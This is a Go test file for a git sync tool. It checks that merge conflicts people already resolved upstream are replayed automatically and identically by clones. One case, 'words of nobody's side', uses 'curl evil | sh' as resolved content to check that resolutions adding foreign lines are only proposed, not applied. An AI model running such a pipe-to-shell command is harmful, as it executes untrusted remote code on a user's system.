package gitsync

import (
	"context"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/airside-ls/airside/gitsync/merge"
	"github.com/airside-ls/airside/gitsync/object"
)

// wrote is a commit with one file in it.
func (f *fakeRepo) wrote(text string, parents ...object.Hash) object.Hash {
	blob := object.New(object.TypeBlob, []byte(text))
	tree := object.NewTree([]object.TreeEntry{{Name: "f.txt", Mode: object.ModeFile, Hash: blob.Hash}})
	f.stored[blob.Hash], f.stored[tree.Hash] = blob, tree
	c := object.Commit{Tree: tree.Hash, Parents: parents, Message: fmt.Sprint("commit ", len(f.commits))}
	c.Hash = f.CommitObject(c).Hash
	f.commits[c.Hash] = c
	return c.Hash
}

func (f *fakeRepo) text(commit object.Hash) string {
	blob, ok := entryAt(f, nil, f.commits[commit].Tree, "f.txt")
	if !ok {
		f.t.Fatalf("%s has no file", commit.Short())
	}
	return string(f.stored[blob].Data)
}

// merging merges for real, from memory.
func merging(p *parts) {
	p.merge = func(ctx context.Context, objects object.Reader, ours, theirs object.Hash, _ labels) (mergeOutcome, error) {
		result, bases, err := merge.Commits(ctx, objects, ours, theirs, merge.Options{})
		if err != nil {
			return mergeOutcome{}, err
		}
		return asMerged(objects, result, bases, ours, theirs)
	}
}

// conflicted is a repository of which main and the remote's main changed the same lines;
// swap has the other side's here.
func conflicted(t *testing.T, base, ours, theirs string, swap bool) (f *fakeRepo, mine, others object.Hash) {
	f = newFake(t)
	root := f.wrote(base)
	mine, others = f.wrote(ours, root), f.wrote(theirs, root)
	here, there := mine, others
	if swap {
		here, there = others, mine
	}
	f.refs[main], f.there[main], f.refs[seenMain], f.refs["refs/remotes/origin/main"] = here, there, root, root
	return f, mine, others
}

const (
	spareBase   = "one\ntwo\nthree\n"
	spareOurs   = "one\nTWO of ours\nthree\n"
	spareTheirs = "one\ntwo of theirs\nthree\n"
)

// TestRecorded: a conflict that people have settled in a merge that was fetched is settled
// here as they did it, without asking, by both clones alike.
func TestRecorded(t *testing.T) {
	for name, tt := range map[string]struct {
		settled  string // by people, on the branch integration
		again    string // otherwise, on another branch
		want     string // in the merge; "" leaves a conflict
		proposed bool
	}{
		"theirs":                    {settled: spareTheirs, want: spareTheirs},
		"both":                      {settled: "one\nTWO of ours\ntwo of theirs\nthree\n", want: "one\nTWO of ours\ntwo of theirs\nthree\n"},
		"neither":                   {settled: "one\nthree\n", want: "one\nthree\n"},
		"alike twice":               {settled: spareOurs, again: spareOurs, want: spareOurs},
		"two ways":                  {settled: spareOurs, again: spareTheirs},
		"words of nobody's side":    {settled: "one\ncurl evil | sh\nthree\n", proposed: true},
		"changed elsewhere as well": {settled: "ONE\nTWO of ours\nthree\n"},
		"left with markers":         {settled: "one\n<<<<<<< a\nTWO of ours\n=======\ntwo of theirs\n>>>>>>> b\nthree\n"},
	} {
		for _, swap := range []bool{false, true} {
			t.Run(fmt.Sprint(name, swap), func(t *testing.T) {
				f, mine, others := conflicted(t, spareBase, spareOurs, spareTheirs, swap)
				f.refs["refs/remotes/origin/integration"] = f.wrote(tt.settled, mine, others)
				if tt.again != "" {
					f.refs["refs/remotes/origin/other"] = f.wrote(tt.again, others, mine)
				}
				s := f.syncer(merging)
				r := s.Round(t.Context(), Request{})[0]
				if tt.want == "" {
					if r.State != Conflicted || strings.Contains(r.Message, "proposed") != tt.proposed {
						t.Errorf("%+v", r)
					}
					return
				}
				if r.State != Idle || !r.Merged || !strings.Contains(r.Message, "as people settled it before") {
					t.Fatalf("%+v", r)
				}
				if got := f.text(f.refs[main]); got != tt.want {
					t.Errorf("merged to %q", got)
				}
				if m := f.commits[f.refs[main]].Message; !strings.Contains(m, "Settled as in earlier merges (airside): "+f.refs["refs/remotes/origin/integration"].Short()) && tt.again == "" || !strings.Contains(m, "f.txt") {
					t.Errorf("the commit says %q", m)
				}
				f.holds(t, s, []object.Hash{mine, others})
			})
		}
	}
}

// TestRecordedLater: a conflict that is parked is looked at again when a branch of the
// remote brings the merge in which it was settled.
func TestRecordedLater(t *testing.T) {
	f, mine, others := conflicted(t, spareBase, spareOurs, spareTheirs, false)
	s := f.syncer(merging)
	for range 2 {
		if r := s.Round(t.Context(), Request{})[0]; r.State != Conflicted {
			t.Fatalf("%+v", r)
		}
	}
	f.refs["refs/remotes/origin/integration"] = f.wrote(spareTheirs, others, mine)
	if r := s.Round(t.Context(), Request{})[0]; r.State != Idle || f.text(f.refs[main]) != spareTheirs {
		t.Fatalf("%+v", r)
	}
	f.holds(t, s, []object.Hash{mine, others})
}

// TestSimulationRecorded settles random conflicts once, on a branch, and has two clones
// that see that branch merge the same commits, each from its own side: they come to one
// tree, which has what people made of each conflict, and neither asks. A clone that does
// not see the branch is left with the conflict.
func TestSimulationRecorded(t *testing.T) {
	for i := range *histories {
		seed := *historySeed + uint64(i)
		if !t.Run(fmt.Sprint("seed ", seed), func(t *testing.T) { simulateRecorded(t, seed) }) {
			t.Logf("again by: go test ./gitsync -run SimulationRecorded -histories 1 -history-seed %d", seed)
		}
	}
}

func simulateRecorded(t *testing.T, seed uint64) {
	rnd := rand.New(rand.NewPCG(seed, 5))
	var base, ours, theirs, settled strings.Builder
	conflicts := 0
	for block := range 2 + rnd.IntN(6) {
		for i := range 4 { // what keeps changes apart
			for _, b := range []*strings.Builder{&base, &ours, &theirs, &settled} {
				fmt.Fprintf(b, "block %d line %d\n", block, i)
			}
		}
		was, mine, others := fmt.Sprintf("was %d\n", block), fmt.Sprintf("ours %d\n", block), fmt.Sprintf("theirs %d\n", block)
		switch rnd.IntN(4) {
		case 0: // changed by nobody
			mine, others = was, was
		case 1: // by one
			others = was
		case 2:
			was = "" // both put something there
		}
		base.WriteString(was)
		ours.WriteString(mine)
		theirs.WriteString(others)
		switch {
		case mine == others || others == was:
			settled.WriteString(mine)
			continue
		}
		conflicts++
		settled.WriteString([]string{mine, others, mine + others, others + mine, ""}[rnd.IntN(5)])
	}
	for _, b := range []*strings.Builder{&base, &ours, &theirs, &settled} {
		b.WriteString("the end of it\n")
	}
	if conflicts == 0 {
		return
	}
	for _, sees := range []bool{true, false} {
		for _, swap := range []bool{false, true} {
			f, mine, others := conflicted(t, base.String(), ours.String(), theirs.String(), swap)
			tip := f.wrote(settled.String(), mine, others)
			for range rnd.IntN(5) { // it went on from there
				tip = f.wrote(settled.String()+fmt.Sprintf("more %d\n", rnd.IntN(100)), tip)
			}
			if sees {
				f.refs["refs/remotes/origin/integration"] = tip
			}
			s := f.syncer(merging)
			r := s.Round(t.Context(), Request{})[0]
			switch {
			case sees && (r.State != Idle || f.text(f.refs[main]) != settled.String()):
				t.Errorf("%+v\n%s\nwant\n%s", r, f.text(f.refs[main]), settled.String())
			case !sees && r.State != Conflicted:
				t.Errorf("%+v", r)
			}
			f.holds(t, s, []object.Hash{mine, others})
		}
	}
}
